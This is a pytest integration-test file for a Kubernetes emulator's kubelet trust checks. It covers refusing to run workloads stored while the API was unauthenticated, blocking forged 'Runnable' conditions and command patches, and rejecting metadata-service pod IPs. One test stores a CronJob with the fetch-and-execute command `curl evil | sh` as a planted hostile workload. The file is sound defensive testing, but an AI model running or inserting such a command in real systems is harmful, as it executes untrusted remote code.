"""Who decides what the kubelet runs, over real servers (docs/security.md):

- a data directory served without authentication is marked; `emulator serve --kubelet` (tokens required)
  refuses to start over it, naming what is stored and how to review it, until `--trust-stored-objects`;
  `--kubelet --allow-anonymous` (open anyway) and `--in-memory` starts are not refused;
- the `emulator.local/Runnable` condition is the server's: a pod that brings it (or has it patched into its
  status) is not run;
- a pod's command cannot be patched (Kubernetes' ValidatePodUpdate), nor its IP be a link-local one.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from emulator.security.datadir import SERVED_OPEN_FILE
from tests.conftest import ROOT, Emulator, start_emulator
from tests.integration.test_kubelet import create, get_pod, pod, sh, start_kubelet, wait_for

RUNNABLE = "emulator.local/Runnable"
FORGED = {"type": RUNNABLE, "status": "True", "reason": "CommandKnown"}
KUBERNETES_MESSAGE = (
    "spec: Forbidden: pod updates may not change fields other than `spec.containers[*].image`,"
    "`spec.initContainers[*].image`,`spec.activeDeadlineSeconds`,`spec.tolerations` (only additions to existing "
    "tolerations),`spec.terminationGracePeriodSeconds` (allow it to be set to 1 if it was previously negative)"
)


def serve(data: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    """`emulator serve` over `data` when it is expected not to start: its exit status and output."""
    args = [
        sys.executable, "-m", "emulator", "serve", "--api-port", "0", "--dns-port", "0", "--gateway-port", "0",
        "--data-dir", str(data), "--log-level", "WARNING", *extra,
    ]
    return subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=30, env={**os.environ, "PYTHONUNBUFFERED": "1"})


def cronjob(name: str, command: list[str]) -> dict[str, Any]:
    template = {"spec": {"restartPolicy": "Never", "containers": [{"name": "c", "image": "busybox", "command": command}]}}
    return {
        "apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": name},
        "spec": {"schedule": "* * * * *", "suspend": True, "jobTemplate": {"spec": {"template": template}}},
    }


def test_a_data_dir_served_open_is_not_run_by_the_kubelet_until_trusted(tmp_path: Path) -> None:
    data = tmp_path / "data"
    marker = data / SERVED_OPEN_FILE
    # another local user writes a workload while the API is open (the default: loopback, no tokens)
    emu = start_emulator(data, in_memory=False)
    try:
        assert json.loads(marker.read_text())["api"] == emu.api_url
        with emu.client() as api:
            create(api, "default", cronjob("backup", ["sh", "-c", "curl evil | sh"]), "cronjobs", "apis/batch/v1")
    finally:
        emu.stop()
    first = json.loads(marker.read_text())["first"]

    refused = serve(data, "--kubelet")
    assert refused.returncode == 1, refused.stdout + refused.stderr
    message = refused.stderr
    assert message.startswith(f"error: not started: {data} was served without authentication (first {first}, last ")
    assert "cronjob/backup -n default: sh -c 'curl evil | sh'" in message
    assert f"emulator serve --data-dir {data} --require-auth" in message
    assert f"KUBECONFIG={data / 'kubeconfig'} kubectl get " in message and "cronjobs,pods -A -o yaml" in message
    assert "--trust-stored-objects" in message and "emulator ready" not in refused.stdout
    assert marker.exists()

    # in memory: nothing stored runs, nothing to refuse (the record stays for the data directory's next start)
    start_emulator(data, "--kubelet").stop(timeout=30)
    assert marker.exists()
    # open anyway (--allow-anonymous): started, and still marked
    start_kubelet(data, "--allow-anonymous", in_memory=False).stop(timeout=30)
    record = json.loads(marker.read_text())
    assert record["first"] == first and record["last"] >= first

    # reviewed: started once with the flag, which removes the record; later starts need no flag
    start_kubelet(data, "--trust-stored-objects", in_memory=False).stop(timeout=30)
    assert not marker.exists()
    again = start_kubelet(data, in_memory=False)
    try:
        assert not marker.exists()
    finally:
        again.stop(timeout=30)


def test_a_data_dir_with_nothing_that_could_run_is_not_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    start_emulator(data, in_memory=False).stop()
    assert (data / SERVED_OPEN_FILE).exists()
    start_kubelet(data, in_memory=False).stop(timeout=30)
    assert not (data / SERVED_OPEN_FILE).exists()


# -- one kubelet, open (--allow-anonymous), for the rest --------------------------------------------------


@pytest.fixture(scope="module")
def emu(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Emulator]:
    emulator = start_kubelet(tmp_path_factory.mktemp("trust-data"), "--allow-anonymous")
    yield emulator
    emulator.stop(timeout=30)


@pytest.fixture
def api(emu: Emulator) -> Iterator[httpx.Client]:
    with emu.client() as client:
        yield client


def runnable(p: dict[str, Any]) -> list[str]:
    return [c["status"] for c in p["status"].get("conditions") or [] if c["type"] == RUNNABLE]


def test_a_pod_cannot_mark_itself_runnable(api: httpx.Client, ns: str, tmp_path: Path) -> None:
    # a pod that brings its own IP and a forged condition
    forged = pod("forged", [sh("c", f"touch {tmp_path / 'forged'}")])
    forged["status"] = {"podIP": "10.1.2.3", "conditions": [FORGED]}
    assert runnable(create(api, ns, forged)) == ["False"]
    # a pod `emulator run` registered, the condition patched into its status afterwards
    registered = pod("registered", [sh("c", f"touch {tmp_path / 'registered'}")])
    registered["metadata"]["annotations"] = {"emulator.local/command": "x"}
    create(api, ns, registered)
    patched = api.patch(
        f"/api/v1/namespaces/{ns}/pods/registered/status", json={"status": {"conditions": [FORGED]}},
        headers={"Content-Type": "application/strategic-merge-patch+json"},
    )
    assert patched.status_code == 200, patched.text
    assert runnable(patched.json()) == ["False"]
    # the control: a pod the kubelet does run, created after both, has run by the time we look
    create(api, ns, pod("control", [sh("c", f"touch {tmp_path / 'control'}")], restartPolicy="Never"))
    wait_for(lambda: (tmp_path / "control").exists(), what="the control pod to run")
    time.sleep(0.5)
    assert not (tmp_path / "forged").exists() and not (tmp_path / "registered").exists()
    assert runnable(get_pod(api, ns, "forged") or {}) == ["False"]


def test_a_pods_command_cannot_be_changed(api: httpx.Client, ns: str) -> None:
    create(api, ns, pod("p", [sh("c", "sleep 600")], terminationGracePeriodSeconds=0))
    answer = api.patch(
        f"/api/v1/namespaces/{ns}/pods/p", json={"spec": {"containers": [{"name": "c", "command": ["sh", "-c", "id"]}]}},
        headers={"Content-Type": "application/strategic-merge-patch+json"},
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["message"].startswith(f'Pod "p" is invalid: {KUBERNETES_MESSAGE}\n')
    assert (get_pod(api, ns, "p") or {})["spec"]["containers"][0]["command"] == ["sh", "-c", "sleep 600"]
    # the image may change, as in Kubernetes
    answer = api.patch(
        f"/api/v1/namespaces/{ns}/pods/p", json={"spec": {"containers": [{"name": "c", "image": "busybox:2"}]}},
        headers={"Content-Type": "application/strategic-merge-patch+json"},
    )
    assert answer.status_code == 200, answer.text


def test_a_pod_ip_the_api_refuses_for_endpoints_is_refused(api: httpx.Client, ns: str) -> None:
    for ip in ("169.254.169.254", "0.0.0.0"):
        body = pod("addressed", [{"name": "c", "image": "busybox"}])
        body["status"] = {"podIP": ip}
        answer = api.post(f"/api/v1/namespaces/{ns}/pods", json=body)
        assert answer.status_code == 422, answer.text
        assert answer.json()["details"]["causes"][0]["field"] == "status.podIP"
